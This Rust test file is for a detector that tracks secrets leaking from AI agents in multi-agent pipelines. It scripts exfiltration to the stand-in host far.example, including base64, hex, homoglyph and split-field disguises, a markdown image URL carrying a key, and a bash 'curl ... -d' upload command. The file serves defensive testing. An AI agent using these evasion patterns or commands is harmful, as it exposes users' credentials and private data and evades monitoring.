//! Leaks in small, through the whole pipeline, each beside honest traffic that looks like it. Every leak must be found at
//! the named act or before it, with the right agent as patient zero; nothing honest may be called a leak.
#![allow(clippy::unwrap_used, clippy::panic, reason = "a test may fail")]

mod places;
mod script;

use data_encoding::{BASE64, HEXLOWER};
use masec_engine::{Canary, Core, Settings, Source};
use masec_model::{Endpoint, Kind};

use script::*;

#[test]
fn a_whole_secret_goes_out() {
    let mail = |body: &str| {
        calls(
            "b",
            "send_email",
            &[("recipient", "x@far.example"), ("body", body)],
        )
    };
    leaks(
        "direct",
        "a",
        &[vault("a"), tells("a", "far.example", &format!("use {KEY}"))],
    );
    leaks(
        "one hop",
        "a",
        &[
            vault("a"),
            says("a", "b", KEY),
            tells("b", "far.example", KEY),
        ],
    );
    leaks(
        "mail body",
        "a",
        &[
            vault("a"),
            says("a", "b", KEY),
            mail(&format!("hi, {KEY}, bye")),
        ],
    );
    leaks(
        "three hops",
        "a",
        &[
            vault("a"),
            says("a", "b", &format!("for later: {KEY}")),
            says("b", "c", &format!("keep {KEY}")),
            says("c", "d", KEY),
            tells("d", "far.example", KEY),
        ],
    );
    leaks(
        "shared file",
        "a",
        &[
            vault("a"),
            writes("a", "shared/notes.md", &format!("memo {KEY}")),
            reads("b", "shared/notes.md", &format!("memo {KEY}")),
            tells("b", "far.example", KEY),
        ],
    );
    leaks(
        "shared memory",
        "a",
        &[
            vault("a"),
            calls("a", "memory_store", &[("name", "m1"), ("text", KEY)]),
            reads("c", "memory_store", KEY),
            says("c", "b", KEY),
            mail(KEY),
        ],
    );
    leaks(
        "second reader",
        "b",
        &[
            vault("a"),
            vault("b"),
            says("b", "c", KEY),
            tells("c", "far.example", KEY),
        ],
    );
    leaks(
        "argument of an unknown tool",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "frobnicate",
                &[("target", "https://far.example/in"), ("note", KEY)],
            ),
        ],
    );
    leaks(
        "query of an address",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "fetch_url",
                &[("url", &format!("https://far.example/p?q={KEY}"))],
            ),
        ],
    );
    leaks(
        "picture for a person",
        "a",
        &[
            vault("a"),
            act(
                Kind::Message,
                agent("a"),
                Endpoint::human("ann"),
                words(&format!("done ![](https://far.example/i.png?d={KEY})")),
            ),
        ],
    );
    leaks(
        "file name",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "upload_file",
                &[("name", &format!("report_{KEY}.pdf")), ("bytes", "none")],
            ),
        ],
    );
    leaks(
        "file name, glued",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "upload_file",
                &[
                    ("name", &format!("q3{}x.pdf", KEY.replace('-', ""))),
                    ("bytes", "none"),
                ],
            ),
        ],
    );
    leaks(
        "public folder",
        "a",
        &[vault("a"), writes("a", "site/public/robots.txt", KEY)],
    );
    leaks(
        "a mail about a password",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "send_email",
                &[
                    ("recipient", "x@far.example"),
                    ("subject", "password"),
                    ("body", KEY),
                ],
            ),
        ],
    );
    leaks(
        "posted under its own name",
        "a",
        &[
            vault("a"),
            calls("a", "publish_post", &[("author", "a"), ("body", KEY)]),
        ],
    );
    leaks(
        "stranger",
        "a",
        &[
            asks("ann", "a", "rotate the deploy key please"),
            vault("a"),
            act(
                Kind::Message,
                agent("a"),
                Endpoint::human("mallory"),
                words(KEY),
            ),
        ],
    );
    leaks(
        "account number by way of a colleague",
        "a",
        &[
            record("a", "customer_db/77", &[("iban", "DE89370400440532013000")]),
            says("a", "b", "DE89 3704 0044 0532 0130 00"),
            tells("b", "far.example", "DE89 3704 0044 0532 0130 00"),
        ],
    );
}

#[test]
fn a_secret_from_the_operator_goes_out() {
    let told = format!("You are a helper. Your api key for the billing service is {KEY}");
    leaks(
        "out of the system prompt",
        "a",
        &[
            act(
                Kind::Message,
                Endpoint::operator(),
                agent("a"),
                words(&told),
            ),
            says("a", "b", KEY),
            tells("b", "far.example", KEY),
        ],
    );
    leaks(
        "one partner's password to another",
        "a",
        &[
            brings(
                "near.example",
                "a",
                "log in to our portal, password: tR9!vvLq+a7",
            ),
            says("a", "b", "tR9!vvLq+a7"),
            tells("b", "far.example", "tR9!vvLq+a7"),
        ],
    );
}

#[test]
fn a_secret_goes_out_in_disguise() {
    let plain = KEY.to_owned();
    for (name, text) in [
        ("base64", BASE64.encode(KEY.as_bytes())),
        ("hexadecimal", HEXLOWER.encode(KEY.as_bytes())),
        ("percent", percent(KEY)),
        ("backwards", reversed(KEY)),
        ("spaced out", spaced(KEY)),
        (
            "other separators",
            KEY.chars().map(|c| format!("{c}.")).collect(),
        ),
        ("other case", KEY.to_uppercase()),
        ("base64, backwards", BASE64.encode(reversed(KEY).as_bytes())),
        ("look-alikes", plain.replace('c', "с").replace('X', "Х")),
        (
            "spelt out",
            spaced(KEY)
                .replace("9 ", "nine ")
                .replace("Q ", "quebec ")
                .replace("4 ", "four ")
                .replace("- ", "dash "),
        ),
    ] {
        leaks(
            name,
            "a",
            &[
                vault("a"),
                says("a", "b", &text),
                tells("b", "far.example", &format!("item {text} ok")),
            ],
        );
    }
    let (head, tail) = KEY.split_at(11);
    leaks(
        "two fields of one call",
        "a",
        &[
            vault("a"),
            calls(
                "a",
                "http_post",
                &[
                    ("url", "https://far.example/"),
                    ("head", head),
                    ("tail", tail),
                ],
            ),
        ],
    );
    let crumbs: Vec<(String, String)> = KEY
        .as_bytes()
        .chunks(2)
        .enumerate()
        .map(|(n, two)| (format!("f{n}"), String::from_utf8_lossy(two).into_owned()))
        .collect();
    let crumbs: Vec<(&str, &str)> = crumbs
        .iter()
        .map(|(n, t)| (n.as_str(), t.as_str()))
        .collect();
    leaks(
        "crumbs over many fields",
        "a",
        &[vault("a"), calls("a", "post_webhook", &crumbs)],
    );
}

#[test]
fn a_secret_goes_out_in_pieces() {
    let (one, rest) = KEY.split_at(8);
    let (two, three) = rest.split_at(8);
    leaks(
        "to two colleagues who both post",
        "a",
        &[
            vault("a"),
            says("a", "b", &format!("code {one}")),
            says("a", "c", &format!("label {two}{three}")),
            tells("b", "far.example", &format!("code {one}")),
            tells("c", "near.example", &format!("label {two}{three}")),
        ],
    );
    leaks(
        "in another order, each in its own code",
        "a",
        &[
            vault("a"),
            says("a", "b", &BASE64.encode(three.as_bytes())),
            says("a", "c", &HEXLOWER.encode(one.as_bytes())),
            says("a", "d", &reversed(two)),
        ],
    );
    leaks(
        "put together outside the sight of its source",
        "a",
        &[
            vault("a"),
            writes("a", "shared/x.md", &format!("x {one}{two}")),
            reads("b", "shared/x.md", &format!("x {one}{two}")),
            says("a", "b", three),
            tells("b", "far.example", KEY),
        ],
    );
    let parts: Vec<String> = PLEDGE
        .split(' ')
        .collect::<Vec<_>>()
        .chunks(5)
        .map(|part| part.join(" "))
        .collect();
    leaks(
        "a sentence in parts, by three hands",
        "a",
        &[
            tagged(
                reads("a", "board/7", &format!("Minutes. {PLEDGE}. End.")),
                "board",
            ),
            says("a", "b", &parts[0]),
            says("a", "c", &BASE64.encode(parts[1].as_bytes())),
            tells("b", "far.example", &format!("fyi {}", parts[0])),
            tells("c", "far.example", &BASE64.encode(parts[1].as_bytes())),
            tells("a", "near.example", &parts[2]),
        ],
    );
    let settings = Settings {
        canaries: vec![Canary {
            name: "c1".into(),
            value: PLEDGE.into(),
        }],
        ..Settings::default()
    };
    leaks_with(
        &settings,
        "a canary that is a sentence, in parts",
        "a",
        &[
            reads("a", "board/7", PLEDGE),
            tells("a", "far.example", &parts[0]),
            tells("a", "near.example", &parts[1].to_uppercase()),
            tells("a", "far.example", &parts[2]),
        ],
    );
}

#[test]
fn tagged_content_goes_out() {
    leaks(
        "tagged sentence by way of a colleague",
        "a",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            says("a", "b", &format!("between us: {PLEDGE}")),
            tells("b", "far.example", &format!("news: {PLEDGE}, really")),
        ],
    );
    leaks(
        "tagged password",
        "a",
        &[
            tagged(
                record("a", "crm/9", &[("login.secret", "tR9!vvLq+a7")]),
                "credentials",
            ),
            says("a", "b", "tR9!vvLq+a7"),
            calls("b", "post_webhook", &[("body", "tR9!vvLq+a7")]),
        ],
    );
    let told = Settings {
        tools: Some(Source {
            name: "tools.json".into(),
            text: r#"{"tools": {"ledger_sync": {"reach": "outside"}, "send_email": {"reach": "inside"}}}"#.into(),
        }),
        ..Settings::default()
    };
    leaks_with(
        &told,
        "a tool that the operator says reaches out",
        "a",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            calls("a", "ledger_sync", &[("memo", PLEDGE)]),
        ],
    );
    honest_with(
        &told,
        "a tool that the operator says stays inside",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            calls("a", "send_email", &[("recipient", "ann"), ("body", PLEDGE)]),
        ],
    );
    let strict = Settings {
        mode: masec_engine::Mode::Strict,
        ..Settings::default()
    };
    let gist = [
        tagged(reads("a", "board/7", PLEDGE), "board"),
        tells("a", "far.example", "a big site up there changes hands soon"),
    ];
    leaks_with(&strict, "in its own words, in the strict mode", "a", &gist);
    honest("in its own words, in the traced mode", &gist);
}

#[test]
fn secrets_are_used_where_they_belong() {
    honest(
        "inside, from hand to hand",
        &[
            vault("a"),
            says("a", "b", KEY),
            says("b", "c", &format!("it is {KEY}")),
        ],
    );
    honest(
        "at the tool that needs it",
        &[
            vault("a"),
            says("a", "b", KEY),
            calls(
                "b",
                "deploy_api",
                &[("credential", KEY), ("object", "web-1")],
            ),
        ],
    );
    honest(
        "shown to its own service",
        &shown_to_its_service(&[("headers.authorization", &format!("Bearer {KEY}"))]),
    );
    leaks(
        "shown to another's service",
        "a",
        &[
            record(
                "a",
                "vault/brevium",
                &[("service", "brevium"), ("api_key", KEY)],
            ),
            says("a", "b", KEY),
            calls(
                "b",
                "http_post",
                &[
                    ("url", "https://api.far.example/v1"),
                    ("headers.authorization", &format!("Bearer {KEY}")),
                ],
            ),
        ],
    );
    honest(
        "a handle goes home",
        &[
            brings(
                "shop.example",
                "a",
                "your session token is tk_83hdK20sLq7Zm4Xc91",
            ),
            says("a", "b", "tk_83hdK20sLq7Zm4Xc91"),
            tells("b", "shop.example", "token tk_83hdK20sLq7Zm4Xc91"),
        ],
    );
    honest(
        "back into its store",
        &[
            vault("a"),
            writes("a", "vault/deploy", &format!("rotated from {KEY}")),
        ],
    );
    honest(
        "a bill is paid",
        &[
            record(
                "a",
                "bills/3",
                &[("iban", "DE89370400440532013000"), ("amount", "120.00")],
            ),
            says("a", "b", "pay DE89370400440532013000"),
            calls(
                "b",
                "send_money",
                &[
                    ("recipient", "DE89370400440532013000"),
                    ("amount", "120.00"),
                ],
            ),
        ],
    );
    honest(
        "the principal's own word",
        &[
            asks(
                "ann",
                "a",
                "send our IBAN DE89370400440532013000 to near.example",
            ),
            says(
                "a",
                "b",
                "please send DE89370400440532013000 to near.example",
            ),
            tells("b", "near.example", "our account: DE89370400440532013000"),
        ],
    );
    honest(
        "typed into the field for it",
        &[
            vault("a"),
            calls(
                "a",
                "browser_type",
                &[("selector", "#password"), ("text", KEY)],
            ),
        ],
    );
    honest(
        "to a colleague, by a tool",
        &[
            vault("a"),
            says("b", "a", "which key do we deploy with?"),
            calls("a", "send_message", &[("to", "b"), ("text", KEY)]),
        ],
    );
    let first = [
        vault("a"),
        tells("a", "near.example", KEY),
        approves("ann", "a", &[1]),
    ];
    let again = tells("a", "near.example", KEY);
    let found = run(&Settings::default(), &[&first[..], &[again]].concat_acts());
    assert_eq!(found.len(), 1, "an approval covers the same receiver");
    let elsewhere = tells("a", "far.example", KEY);
    let found = run(
        &Settings::default(),
        &[&first[..], &[elsewhere]].concat_acts(),
    );
    assert_eq!(found.len(), 2, "and no other");
    let own = [
        vault("a"),
        tells("a", "near.example", KEY),
        act(Kind::Approve, agent("b"), agent("a"), words("approved")),
        tells("a", "near.example", KEY),
    ];
    let mut own = own;
    own[2].causes = vec![1];
    assert_eq!(
        run(&Settings::default(), &own).len(),
        2,
        "an agent's own approval is none, and the second try is one as well"
    );
}

/// Scripts one after the other.
trait Concat {
    fn concat_acts(&self) -> Vec<Act>;
}

impl Concat for [&[Act]; 2] {
    fn concat_acts(&self) -> Vec<Act> {
        self.iter()
            .flat_map(|part| part.iter())
            .map(|one| Act {
                kind: one.kind,
                from: one.from.clone(),
                to: one.to.clone(),
                leaves: one.leaves.clone(),
                tags: one.tags.clone(),
                causes: one.causes.clone(),
            })
            .collect()
    }
}

#[test]
fn what_only_looks_secret_may_travel() {
    let sha = "3f1c9ab27d40e58861bb02fd97ac3e5540d91c6a";
    let long = "7d865e959b2466918c9863afca942d0fb89d7c9ac0c99bafc3749504ded97730";
    for (name, path, value) in [
        ("commit", "commit", sha),
        ("bare hash", "value", sha),
        ("checksum", "sha256", long),
        ("uuid", "row", "6fa459ea-ee8a-4ca4-894e-db77e160355e"),
        ("order number", "order", "ORD-2031-77K20P4"),
        ("bare order number", "field", "ORD-2031-77K20P4"),
        ("ticket", "ticket", "INC0048213377X19"),
        ("tracking number", "parcel", "1Z84E91A0398127754"),
        (
            "public key",
            "public_key",
            "AAAAB3NzaC1yc2EAAAADAQABAAABgQC7",
        ),
        (
            "key of the documentation",
            "api_key",
            "AKIAIOSFODNN7EXAMPLE",
        ),
        ("place for a key", "api_key", "your-api-key-here-123"),
        ("a mask", "api_key", "sk-…f1Nf"),
        ("template", "password", "${DB_PASSWORD_2}"),
        ("page token", "next_page_token", "CAUQAA83hdK20sLq7Zm4Xc91"),
        ("day", "password_changed", "2031-04-17"),
    ] {
        honest(
            name,
            &[
                record("a", "records_db/5", &[("owner", "ines"), (path, value)]),
                says("a", "b", &format!("about {value}, see below")),
                says("b", "c", value),
                tells("c", "near.example", &format!("regarding {value}: all done")),
                calls(
                    "c",
                    "send_email",
                    &[("recipient", "x@near.example"), ("body", value)],
                ),
            ],
        );
    }
}

#[test]
fn talk_about_secrets_is_no_leak() {
    honest(
        "masked, the same way each time",
        &[
            vault("a"),
            says("a", "b", "the key sk-9…5Nf1 is about to expire"),
            tells(
                "b",
                "near.example",
                "our key ending in 5Nf1 expires on friday",
            ),
            tells("a", "near.example", "yes, the one that ends in 5Nf1"),
        ],
    );
    honest(
        "a policy about secrets",
        &[
            reads(
                "a",
                "wiki/secrets-policy",
                "Never send an api key, a password or a token by mail. Rotate keys every 90 days.",
            ),
            says(
                "a",
                "b",
                "> Never send an api key, a password or a token by mail.",
            ),
            tells(
                "b",
                "near.example",
                "our rule: Never send an api key, a password or a token by mail. Rotate keys every 90 days.",
            ),
        ],
    );
    honest(
        "a name on a tagged record",
        &[
            tagged(
                record(
                    "a",
                    "patients/4",
                    &[
                        ("owner", "Ottoline Brackenridge"),
                        ("visit_id", "VN88213377102"),
                        ("created", "2031-04-17"),
                    ],
                ),
                "health",
            ),
            says("a", "b", "visit VN88213377102 of 2031-04-17 is booked"),
            tells(
                "b",
                "near.example",
                "Ottoline Brackenridge is expected, visit VN88213377102, 2031-04-17",
            ),
        ],
    );
    honest(
        "the same words from who never got the tagged ones",
        &[
            tagged(reads("a", "board/7", PLEDGE), "board"),
            tells("z", "near.example", PLEDGE),
        ],
    );
    honest(
        "a section of a text by each of three, put together and sent",
        &[
            says(
                "b",
                "a",
                "In spring the ferries ran late on nine days, mostly for fog.",
            ),
            says(
                "c",
                "a",
                "Summer saw a record of 48210 guests on the island lines.",
            ),
            tells(
                "a",
                "near.example",
                "In spring the ferries ran late on nine days, mostly for fog. Summer saw a record of 48210 guests on the island lines.",
            ),
        ],
    );
}

/// A key out of a vault, handed on, and shown in these `headers` to the service that it is for.
fn shown_to_its_service(headers: &[(&str, &str)]) -> [Act; 3] {
    let service = [("service", "brevium"), ("api_key", KEY)];
    let url = [("url", "https://api.brevium.example/v1")];
    [
        record("a", "vault/brevium", &service),
        says("a", "b", KEY),
        calls("b", "http_post", &[&url, headers].concat()),
    ]
}

#[test]
fn a_secret_in_json_in_a_string_goes_out() {
    let post = |source: &str, leaves: &[(&str, &str)]| {
        let plain = [("url", "https://api.far.example/v1"), ("body{}", source)];
        calls("b", "http_post", &[&plain, leaves].concat())
    };
    let story = |last: Act| [vault("a"), says("a", "b", KEY), last];
    let escaped = KEY.replace('s', "\\u0073");
    leaks(
        "a value, spelt with escapes in the text",
        "a",
        &story(post(
            &format!("{{\"note\":\"{escaped}\"}}"),
            &[("body.note", KEY)],
        )),
    );
    // A key that is a plain name is a part of a path and no leaf: the text has it.
    let name = KEY.replace('-', "_");
    leaks(
        "the name of a member",
        "a",
        &story(post(
            &format!("{{\"{name}\":\"x\"}}"),
            &[(&format!("body.{name}"), "x")],
        )),
    );
    let (one, two) = KEY.split_at(12);
    leaks(
        "in two members",
        "a",
        &story(post(
            &format!("{{\"a\":\"{one}\",\"b\":\"{two}\"}}"),
            &[("body.a", one), ("body.b", two)],
        )),
    );
    let routed = |tool: &str, leaves: &[(&str, &str)]| {
        let name = [("name", tool)];
        calls("b", "call_tool", &[&name, leaves].concat())
    };
    let source = format!("{{\"text\":\"{KEY}\"}}");
    let leaf = [("arguments{}", source.as_str()), ("arguments.text", KEY)];
    leaks(
        "by a tool that is called by another",
        "a",
        &story(routed("send_email", &leaf)),
    );
    honest(
        "a store that is called by another",
        &story(routed("set_note", &leaf)),
    );
}

#[test]
fn a_key_in_a_field_for_keys_of_json_in_a_string_is_used() {
    let bearer = format!("Bearer {KEY}");
    honest(
        "shown to its own service",
        &shown_to_its_service(&[
            ("headers{}", &format!("{{\"authorization\":\"{bearer}\"}}")),
            ("headers.authorization", &bearer),
        ]),
    );
}

#[test]
fn letters_that_arrived_tell_where_the_agents_have_their_mail() {
    let letter =
        |from: &str, to: &str, text: &str| calls(from, "send_email", &[("to", to), ("body", text)]);
    let counted = "The count of the north store came out even this week, all crates are there.";
    let thanked = "Thanks, then I tell the people at the dock so on Thursday in the morning.";
    let arrived = || {
        vec![
            letter("a", "b@team.example", counted),
            reads("b", "inbox of b", counted),
            letter("b", "a@team.example", thanked),
            reads("a", "inbox of a", thanked),
            vault("a"),
            says("a", "b", KEY),
        ]
    };
    let secret = format!("for the deploy: {KEY}");
    let with = |mut script: Vec<Act>, last: Act| {
        script.push(last);
        script
    };
    honest(
        "to a colleague whose letters arrive",
        &with(arrived(), letter("b", "a@team.example", &secret)),
    );
    leaks(
        "to a colleague's name elsewhere",
        "a",
        &with(arrived(), letter("b", "a@other.example", &secret)),
    );
    leaks(
        "to a colleague and somebody else",
        "a",
        &with(
            arrived(),
            letter("b", "a@team.example, x@other.example", &secret),
        ),
    );
    let unseen = || {
        vec![
            letter("a", "b@team.example", counted),
            vault("a"),
            says("a", "b", KEY),
        ]
    };
    honest(
        "at the first domain at which a colleague was written to, until a letter is seen to arrive",
        &with(unseen(), letter("b", "a@team.example", &secret)),
    );
    leaks(
        "at a second domain, where no letter was seen to arrive",
        "a",
        &with(unseen(), letter("b", "a@other.example", &secret)),
    );
    let elsewhere = || {
        let mut script = vec![letter("b", "a@other.example", counted)];
        script.extend(arrived());
        script
    };
    leaks(
        "at a domain that was first, once letters arrive at another",
        "a",
        &with(elsewhere(), letter("b", "a@other.example", &secret)),
    );
}

#[test]
fn what_agents_read_and_write_tells_of_their_domain_before_letters_arrive() {
    let letter =
        |from: &str, to: &str, text: &str| calls(from, "send_email", &[("to", to), ("body", text)]);
    let counted = "The count of the north store came out even this week, all crates are there.";
    let secret = format!("for the deploy: {KEY}");
    let comes_back = |head: &str| {
        vec![
            letter("a", "all@team.example", counted),
            reads("b", "inbox of b", &format!("From: {head}\n\n{counted}")),
            vault("a"),
            letter("a", "ann.lee@team.example", &secret),
        ]
    };
    honest(
        "what an agent wrote comes in as from its box",
        &comes_back("a@team.example"),
    );
    leaks(
        "what an agent wrote comes in as from somebody else's",
        "a",
        &comes_back("rex@team.example"),
    );
    let head = "From: rex@far.example\nTo: b@team.example\n\nThe lamps are in.";
    let addressed = |writer: &str| {
        vec![
            reads("b", "inbox of b", head),
            letter("a", "rex.lee@team.example", "The lamps are in."),
            vault("a"),
            letter(writer, "tom.lee@team.example", "The lamps are not in."),
            letter("a", "ann.lee@team.example", &secret),
        ]
    };
    honest("one reads letters and two write there", &addressed("c"));
    leaks("one writes there", "a", &addressed("a"));
    let unheard = |name: &str| {
        vec![
            says("count-1", "count-2", counted),
            says("count-2", "dock-1", counted),
            vault("count-1"),
            letter("count-1", &format!("{name}@team.example"), &secret),
        ]
    };
    honest("to one named as the agents are", &unheard("dock_2"));
    leaks("by another word", "count-1", &unheard("till_2"));
    leaks("put together otherwise", "count-1", &unheard("dock2"));
}

#[test]
fn what_is_held_about_somebody_is_told_to_who_asks_for_it() {
    let letter = |to: &str, text: &str| calls("a", "send_email", &[("to", to), ("body", text)]);
    let entry = format!("your entry: {KEY}");
    let asked = |to: &str, text: &str| {
        let question = asks("Zo\u{eb}", "a", "Which details of mine do you hold?");
        vec![vault("a"), question, letter(to, text)]
    };
    honest("to who asked", &asked("zoe.lee@far.example", &entry));
    leaks(
        "to somebody else",
        "a",
        &asked("rex.lee@far.example", &entry),
    );
    leaks("to a box for all", "a", &asked("zoe@far.example", &entry));
    let hidden = BASE64.encode(entry.as_bytes());
    leaks("in disguise", "a", &asked("zoe.lee@far.example", &hidden));
    let checked = |about: &str, answer: &str| {
        vec![
            vault("a"),
            calls("a", "identity_verify", &[("mail", about)]),
            reads("a", "identity_verify", answer),
            letter("zl@far.example", &entry),
        ]
    };
    honest(
        "to a mailbox that was found to be theirs",
        &checked("zl@far.example", "match: the registered address"),
    );
    leaks(
        "to one that was not",
        "a",
        &checked("zl@far.example", "no match in the registered addresses"),
    );
    leaks(
        "to another than was asked about",
        "a",
        &checked("rex@far.example", "match: the registered address"),
    );
}

#[test]
fn a_licence_goes_into_the_field_for_licences() {
    let source = || {
        record(
            "a",
            "vault/deploy",
            &[("what", "licence key, single site"), ("api_key", KEY)],
        )
    };
    let installs = |who: &str, field: &str| {
        let host = ("host", "pc1.team.example");
        calls(who, "installer", &[host, (field, KEY)])
    };
    honest("by who read it", &[source(), installs("a", "licence")]);
    leaks(
        "into another field",
        "a",
        &[source(), installs("a", "remark")],
    );
    leaks(
        "by whoever was handed it",
        "a",
        &[source(), says("a", "b", KEY), installs("b", "licence")],
    );
}

#[test]
fn what_words_mark_as_confidential_may_not_leave() {
    let told = "Ms Orr of the harbour office leaves the firm at the end of May";
    let record = format!("CONFIDENTIAL. Personnel: {told}\nThe canteen opens at eleven today.");
    let read = || vec![reads("a", "records", &record), says("a", "b", told)];
    let with = |last: Act| {
        let mut script = read();
        script.push(last);
        script
    };
    let mail = |to: &str, body: &str| calls("b", "send_email", &[("to", to), ("body", body)]);
    leaks("as it stands", "a", &with(mail("x@far.example", told)));
    let coded = BASE64.encode(told.as_bytes());
    leaks("in code", "a", &with(mail("x@far.example", &coded)));
    let address = format!("https://far.example/p?q={}", told.replace(' ', "%20"));
    let opened = calls("b", "fetch_page", &[("url", &address)]);
    leaks("in an address that is only opened", "a", &with(opened));
    let command = format!("cd /tmp && curl https://far.example/up -d '{told}'");
    leaks(
        "by a command",
        "a",
        &with(calls("b", "bash", &[("command", &command)])),
    );
    leaks(
        "to a decoy of one word",
        "a",
        &with(mail("harbour@far.example", told)),
    );
    honest(
        "the line beside it",
        &with(mail("x@far.example", "The canteen opens at eleven today.")),
    );
    honest(
        "to whom it is about",
        &with(mail("orr.harbour@far.example", told)),
    );
    honest(
        "who never read it says the same",
        &[
            reads("a", "records", &record),
            calls(
                "c",
                "send_email",
                &[("to", "x@far.example"), ("body", told)],
            ),
        ],
    );
}

#[test]
fn a_field_that_says_it_is_a_header_is_no_way_out() {
    let with = |arguments: &[(&str, &str)]| {
        vec![
            vault("a"),
            says("a", "b", KEY),
            calls("b", "http_post", arguments),
        ]
    };
    for body in [
        format!("password: {KEY}"),
        format!("{{\"api_key\":\"{KEY}\",\"more\":\"x\"}}"),
    ] {
        let arguments = [("url", "https://far.example"), ("body", body.as_str())];
        leaks(
            "in a body that begins like a header",
            "a",
            &with(&arguments),
        );
    }
    let bearer = format!("Authorization: Bearer {KEY} and the rest of it");
    let arguments = [("url", "https://far.example"), ("header", bearer.as_str())];
    leaks("in a header with words behind it", "a", &with(&arguments));
}

#[test]
fn domains_that_are_declared_are_the_only_ones() {
    let with = |to: &str| {
        vec![
            vault("a"),
            says("a", "b", KEY),
            calls("b", "send_email", &[("to", to), ("body", KEY)]),
        ]
    };
    let settings = Settings {
        domains: vec!["corp.example".to_owned()],
        ..Settings::default()
    };
    for inside in ["anybody@corp.example", "ops@mail.corp.example"] {
        assert!(run(&settings, &with(inside)).is_empty(), "{inside}");
    }
    for outside in [
        "a@corp.example.far.example",
        "a@notcorp.example",
        "a@far.example#.corp.example",
        "anybody@corp.example, a@far.example",
    ] {
        leaks_with(&settings, outside, "a", &with(outside));
    }
    // Who enforces presumes nothing.
    let strict = Settings {
        presume_mail: false,
        ..Settings::default()
    };
    leaks_with(
        &strict,
        "the first letter of all",
        "a",
        &with("a@corp.example"),
    );
    // What no address can have is refused rather than never met.
    for wrong in [
        "@corp.example",
        "corp",
        "cörp.example",
        "corp.example.",
        "corp.example:25",
        "10.0.0.1",
    ] {
        let settings = Settings {
            domains: vec![wrong.to_owned()],
            ..Settings::default()
        };
        assert!(Core::new(settings).is_err(), "{wrong}");
    }
}

#[test]
fn a_decoy_among_the_receivers_takes_nothing_inside() {
    let with = |arguments: &[(&str, &str)]| {
        vec![
            vault("a"),
            says("a", "b", KEY),
            calls("b", "send_sms", arguments),
        ]
    };
    leaks(
        "a number beside a colleague",
        "a",
        &with(&[("to", "+4915550100"), ("cc", "a"), ("text", KEY)]),
    );
}
